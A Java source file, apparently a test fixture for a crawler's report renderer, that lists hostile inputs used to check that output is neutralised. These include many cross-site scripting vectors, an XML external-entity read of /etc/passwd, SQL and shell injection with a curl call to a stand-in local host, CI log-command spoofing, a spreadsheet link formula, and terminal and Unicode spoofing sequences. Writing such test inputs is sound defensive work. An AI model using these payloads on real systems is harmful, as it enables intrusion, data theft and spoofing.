package dev.statusquo.crawl.report;

import java.util.List;
import java.util.stream.Stream;

/**
 * What a service or its document may say to make a page, a terminal, a summary or a tool do something. Each text that can run as a
 * script sets the id of the page's root to {@code executed}, and each that can fetch something asks {@link #ELSEWHERE}.
 */
final class HostileTexts {

    /** Stands for the address of a server that nobody should ask. */
    static final String ELSEWHERE = "http://127.0.0.1:9/fetched";

    static final String ATTACK = "document.title='executed';document.documentElement.id='executed'";

    private static final String QUOTED = ATTACK.replace('\'', '`');

    private HostileTexts() {}

    /** Returns all of them. */
    static List<String> all() {
        return Stream.of(markup(), attributes(), addresses(), breakouts(), templates(), characters())
                .flatMap(List::stream)
                .toList();
    }

    private static List<String> markup() {
        return List.of(
                "<script>" + ATTACK + "</script>",
                "<ScRiPt/x>" + ATTACK + "</sCrIpT >",
                "<script src=" + ELSEWHERE + "></script>",
                "<script type=module>" + ATTACK + "</script>",
                "<<script>" + ATTACK + "//<</script>",
                "<scr<script>ipt>" + ATTACK + "</scr</script>ipt>",
                "<script>alert(1);confirm(1);prompt(1)</script>",
                "<img src=x onerror=\"" + ATTACK + "\">",
                "<img src=" + ELSEWHERE + ">",
                "<img/src=`x`onerror=" + QUOTED + ">",
                "<svg onload=\"" + ATTACK + "\">",
                "<svg><script>" + ATTACK + "</script></svg>",
                "<svg><animate onbegin=\"" + ATTACK + "\" attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src onerror=\"" + ATTACK + "\">",
                "<iframe srcdoc=\"<script>parent." + ATTACK + "</script>\"></iframe>",
                "<iframe src=\"javascript:parent." + ATTACK + "\">",
                "<object data=\"" + ELSEWHERE + "\"></object><embed src=" + ELSEWHERE + ">",
                "<video><source onerror=\"" + ATTACK + "\"></video>",
                "<audio src onerror=\"" + ATTACK + "\">",
                "<details open ontoggle=\"" + ATTACK + "\">",
                "<body onload=\"" + ATTACK + "\" onpageshow=\"" + ATTACK + "\">",
                "<marquee onstart=\"" + ATTACK + "\">x</marquee>",
                "<input autofocus onfocus=\"" + ATTACK + "\">",
                "<select autofocus onfocus=\"" + ATTACK + "\"><option>x</select>",
                "<form action=" + ELSEWHERE + "><button autofocus formaction=" + ELSEWHERE + ">x</button></form>",
                "<custom-element is=x onclick=\"" + ATTACK + "\" tabindex=0>x</custom-element>",
                "<template><script>" + ATTACK + "</script></template>",
                "<div contenteditable onbeforeinput=\"" + ATTACK + "\" style=\"position:fixed;inset:0\">x</div>");
    }

    private static List<String> attributes() {
        return List.of(
                "\" onmouseover=\"" + ATTACK + "\" autofocus onfocus=\"" + ATTACK,
                "' onmouseover='" + QUOTED + "' autofocus onfocus='" + QUOTED,
                "x onfocus=" + QUOTED + " autofocus tabindex=0",
                "\"><script>" + ATTACK + "</script>",
                "'><script>" + ATTACK + "</script>",
                "\" style=\"background:url(" + ELSEWHERE + ")",
                "\" data-o=\"failed\" hidden class=\"tools",
                "` onerror=" + QUOTED + " `");
    }

    private static List<String> addresses() {
        return List.of(
                "javascript:" + ATTACK,
                "JaVaScRiPt\u0000:" + ATTACK,
                "java\tscript:" + ATTACK,
                "data:text/html,<script>" + ATTACK + "</script>",
                "//127.0.0.1:9/fetched",
                "http://127.0.0.1:9/fetched",
                "#\"><script>" + ATTACK + "</script>",
                "<a href=\"javascript:" + ATTACK + "\" ping=" + ELSEWHERE + ">x</a>",
                "<link rel=stylesheet href=" + ELSEWHERE + "><link rel=prefetch href=" + ELSEWHERE + ">",
                "<style>@import '" + ELSEWHERE + "'; * { background: url(" + ELSEWHERE + ") }</style>",
                "<base href=http://127.0.0.1:9/>",
                "<meta http-equiv=refresh content=\"0;url=" + ELSEWHERE + "\">",
                "<meta http-equiv=Content-Security-Policy content=\"script-src *\">");
    }

    private static List<String> breakouts() {
        return List.of(
                "</title></style></script><script>" + ATTACK + "</script>",
                "</pre></details></article></main></body></html><script>" + ATTACK + "</script>",
                "--><script>" + ATTACK + "</script><!--",
                "]]><script>" + ATTACK + "</script><![CDATA[",
                "</textarea></noscript></template></select></table><script>" + ATTACK + "</script>",
                "&lt;script&gt;" + ATTACK + "&lt;/script&gt;",
                "&#60;script&#62;" + ATTACK + "&#60;/script&#62;",
                "%3Cscript%3E" + ATTACK + "%3C/script%3E",
                "\\u003cscript\\u003e" + ATTACK + "\\u003c/script\\u003e",
                "+ADw-script+AD4-" + ATTACK + "+ADw-/script+AD4-",
                "<!--",
                "<![CDATA[",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>");
    }

    private static List<String> templates() {
        return List.of(
                "${" + ATTACK + "}{{constructor.constructor('" + QUOTED + "')()}}",
                "{}{}%s%n$1\\0",
                "[click](javascript:" + ATTACK + ") ![x](" + ELSEWHERE + ") <" + ELSEWHERE + ">",
                "```\n# heading\n| a | b |\n|---|---|\n@everyone `x` <img src=" + ELSEWHERE + ">",
                "::error file=a.java,line=1::spoof%0A::set-output name=x::y\n::stop-commands::x",
                "##vso[task.setvariable variable=x]y",
                "'; DROP TABLE users; -- $(touch /tmp/x) `id` && curl " + ELSEWHERE,
                "=HYPERLINK(\"" + ELSEWHERE + "\")");
    }

    private static List<String> characters() {
        return List.of(
                "\u001B[2J\u001B[31mred\u001B]8;;" + ELSEWHERE + "\u0007link\u001B]8;;\u0007",
                "\u009B31m\u0000\u0007\b\u007F",
                "a\u202Egnp.exe\u2066x\u2069\u200B\uFEFF",
                "\u2028" + ATTACK + "\u2029//",
                "\uD800<b>\uDFFF",
                "\uFF1Cscript\uFF1E" + ATTACK + "\uFF1C/script\uFF1E",
                "\r\nX-Injected: 1\r\n\r\n<script>" + ATTACK + "</script>",
                "x".repeat(20_000) + "<script>" + ATTACK + "</script>");
    }
}
